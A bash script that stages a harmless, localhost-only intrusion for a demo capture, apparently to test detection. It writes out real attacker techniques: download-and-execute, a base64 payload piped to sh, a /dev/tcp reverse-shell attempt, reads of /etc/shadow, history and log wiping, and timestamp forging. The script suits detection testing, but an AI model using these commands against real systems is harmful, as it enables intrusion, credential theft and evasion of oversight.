#!/bin/bash
# A short scripted intrusion for the demo capture. Everything stays in /tmp/e_demo.
cd /tmp/e_demo
U="setpriv --reuid=65534 --regid=65534 --clear-groups"
# ordinary activity
ls -la /etc >/dev/null; cat /etc/hostname >/dev/null; git --version >/dev/null 2>&1
# initial foothold as nobody: download, make executable, run
$U bash -c 'curl -s -m1 -o /tmp/e_demo/.x http://127.0.0.1:9/x; printf "#!/bin/sh\necho hi\n" > /tmp/e_demo/.x; chmod +x /tmp/e_demo/.x; /tmp/e_demo/.x'
# base64 payload into a shell
$U bash -c 'echo aWQ7IHVuYW1lIC1h | base64 -d | sh' >/dev/null
# reverse shell attempt through /dev/tcp
$U bash -c 'exec 3<>/dev/tcp/127.0.0.1/4444' 2>/dev/null
# interpreter one-liner
$U python3 -c "import socket,pty;s=socket.socket();s.settimeout(0.2)" 2>/dev/null
$U perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));' 2>/dev/null
# discovery from the shell
$U bash -c 'id; whoami; uname -a; cat /etc/passwd; ps aux; ss -tlnp 2>/dev/null; ip addr 2>/dev/null' >/dev/null 2>&1
# credential access attempts
$U cat /etc/shadow 2>/dev/null
cat /etc/shadow >/dev/null
# defense evasion
$U touch -d "2001-01-01" /tmp/e_demo/.x
$U bash -c 'unset HISTFILE; export HISTSIZE=0; history -c'
echo "log line" > /var/log/e_demo.log; truncate -s0 /var/log/e_demo.log; rm -f /var/log/e_demo.log
# impact
$U bash -c 'chattr +i /tmp/e_demo/.x; true' 2>/dev/null
# openssl as a channel
$U bash -c 'timeout 1 openssl s_client -quiet -connect 127.0.0.1:4443 </dev/null' >/dev/null 2>&1
sleep 1
